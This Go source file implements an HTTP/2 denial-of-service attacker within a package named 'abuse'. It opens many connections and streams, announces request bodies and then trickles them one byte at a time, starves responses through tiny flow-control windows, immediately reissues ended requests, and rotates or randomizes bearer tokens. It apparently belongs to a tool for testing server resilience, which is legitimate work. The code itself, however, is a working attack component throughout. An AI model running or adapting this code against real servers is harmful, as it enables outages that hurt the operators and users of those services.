package abuse

import (
	"bytes"
	"context"
	"crypto/rand"
	"maps"
	"strconv"
	"sync"
	"time"
)

// Streams sends the same request on many streams of many connections, slowly or again and again.
type Streams struct {
	Connections int
	Each        int // requests at the same time on each connection
	Method      string
	Path        string
	Header      map[string]string
	// RandomToken is the size of the token of each request, which nobody has seen; 0 for the callers' tokens.
	RandomToken int
	// Body is the announced length of the body; Endless announces none.
	Body int64
	// Every is how often each request sends another byte of its body, and reads Reads more bytes of its response. 0 is
	// never.
	Every time.Duration
	// Reads is how much of a response is read at a time; 0 reads everything at once.
	Reads int
	// Again sends another request for each that has ended.
	Again bool
}

// Endless is the length of a body that announces none.
const Endless = -1

// Attack implements Attacker.
func (s Streams) Attack(ctx context.Context, t *Target, tokens []string) (Tally, error) {
	fields := map[string]string{}
	maps.Copy(fields, s.Header)
	if s.Body > 0 {
		fields["content-length"] = strconv.FormatInt(s.Body, 10)
	}
	window := uint32(firstWindow)
	if s.Reads > 0 {
		window = uint32(s.Reads)
	}
	answers := &counter{}
	return t.hold(ctx, s.Connections, window, answers, func(c *conn, i int) string {
		header := c.request(s.Method, s.Path, fields)
		if s.RandomToken == 0 {
			header = field(header, "authorization", "Bearer "+tokens[i%len(tokens)])
		}
		s.connection(c, header, answers)
		sleep(ctx, redial)
		return Cut
	})
}

// connection attacks over one connection until it ends.
func (s Streams) connection(c *conn, header []byte, answers *counter) {
	ended, over := make(chan uint32, s.Each), make(chan struct{})
	var sending sync.WaitGroup
	sending.Go(func() { s.send(c, header, ended, over) })
	s.receive(c, answers, ended, over)
	close(over)
	_ = c.Close() // ends a write that waits
	sending.Wait()
}

// receive counts answers, and tells of requests that have ended.
func (s Streams) receive(c *conn, answers *counter, ended chan<- uint32, over <-chan struct{}) {
	for {
		a, err := c.take(s.Reads > 0)
		if a.code != "" {
			answers.add(a.code)
		}
		if err != nil {
			return
		}
		if a.end {
			select {
			case ended <- a.stream:
			case <-over:
				return
			}
		}
	}
}

// send opens the requests and sends their bodies, and others for those that have ended.
func (s Streams) send(c *conn, header []byte, ended <-chan uint32, over <-chan struct{}) {
	open := map[uint32]bool{}
	begin := func() error {
		stream, err := c.open(s.withToken(header), s.Body == 0)
		open[stream] = true
		if err == nil && s.Body != 0 {
			err = c.write(stream, []byte("{"))
		}
		return err
	}
	for range s.Each {
		if begin() != nil {
			return
		}
	}
	var tick <-chan time.Time
	if s.Every > 0 {
		t := time.NewTicker(s.Every)
		defer t.Stop()
		tick = t.C
	}
	for {
		select {
		case <-over:
			return
		case stream := <-ended:
			delete(open, stream)
			if s.Again && begin() != nil {
				return
			}
		case <-tick:
			if s.trickle(c, open) != nil {
				return
			}
		}
	}
}

// trickle sends a byte of each body, and reads a little of each response.
func (s Streams) trickle(c *conn, open map[uint32]bool) error {
	for stream := range open {
		var err error
		if s.Body != 0 {
			err = c.write(stream, []byte(" "))
		}
		if err == nil && s.Reads > 0 {
			err = c.grant(stream, s.Reads)
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// withToken returns the header with a new token, if tokens are random.
func (s Streams) withToken(header []byte) []byte {
	if s.RandomToken == 0 {
		return header
	}
	token := append([]byte("Bearer "+rand.Text()), bytes.Repeat([]byte("x"), s.RandomToken)...)
	return field(bytes.Clone(header), "authorization", string(token[:len("Bearer ")+s.RandomToken]))
}
